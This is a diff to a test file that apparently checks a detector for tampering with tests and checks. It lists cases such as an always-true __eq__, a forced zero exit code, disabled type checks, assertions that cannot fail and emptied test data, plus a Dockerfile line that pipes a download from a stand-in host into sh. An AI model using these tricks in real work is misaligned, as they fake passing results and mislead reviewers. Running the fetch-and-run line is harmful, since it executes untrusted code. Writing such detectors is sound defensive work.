@@ -221,6 +221,25 @@ const cheats: Array<[path: string, before: string | undefined, after: string | u
   ['.devcontainer/devcontainer.json', undefined, '{}', /editor or a container/],
   ['Dockerfile', 'FROM a\n', 'FROM a\nRUN curl https://x.example/i | sh\n', /network/],
   ['a.test.ts', js, js.replace('  expect', '   expect'), /existing test file/],
+  // A second list, by somebody who knew docs/checks.md only; the others of its 80 were seen at once.
+  ['data/cases.json', '[{"in":1,"out":2},{"in":2,"out":4}]\n', '[]\n', /less than half/],
+  ['pytest.py', undefined, 'def main():\n    return 0\n', /test library/],
+  ['.env', undefined, 'NODE_OPTIONS=--require ./fake.js\n', /variables/],
+  ['.nvmrc', '22\n', '12\n', /versions/],
+  ['.python-version', '3.12\n', '3.6\n', /versions/],
+  ['shop/a.py', 'def f(n: int):\n', 'def f(n: Any):\n', /not checked/],
+  ['shop/a.py', 'def f():\n', '@typing.no_type_check\ndef f():\n', /switched off/],
+  ['shop/a.py', 'x = [1, 2]\n', '# fmt: off\nx = [1,2]\n', /switched off/],
+  ['src/lib.rs', 'fn a() {}\n', '#[rustfmt::skip]\nfn a(){}\n', /switched off/],
+  ['src/a.js', source, sourceWith("if (process.argv.some((a) => a.includes('test'))) f();"), /otherwise/],
+  ['shop/a.py', 'class A:\n', 'class A:\n    def __eq__(self, other):\n        return True\n', /equal to/],
+  ['src/a.js', source, sourceWith("process.on('exit', () => { process.exitCode = 0; });"), /process ends/],
+  ['shop/__init__.py', '', 'import atexit, os\natexit.register(lambda: os._exit(0))\n', /process ends/],
+  ['a.test.ts', js, jsInstead('expect(add(1, 2));'), /hardly anything/],
+  ['a.test.ts', js, jsInstead('if (process.env.SLOW) expect(add(1, 2)).toBe(3);'), /only sometimes/],
+  ['a.test.ts', js, jsInstead('setTimeout(() => expect(add(1, 2)).toBe(3));'), /only sometimes/],
+  ['test_a.py', py, py.replace('assert add(1, 2) == 3', 'assert (add(1, 2) == 3, "no")'), /hardly anything/],
+  ['test/setup.js', '', 'globalThis.expect = () => fake;\n', /settings of the test runner/],
 ];
 
 test.each(cheats.map((cheat, at) => [at + 1, ...cheat] as const))(
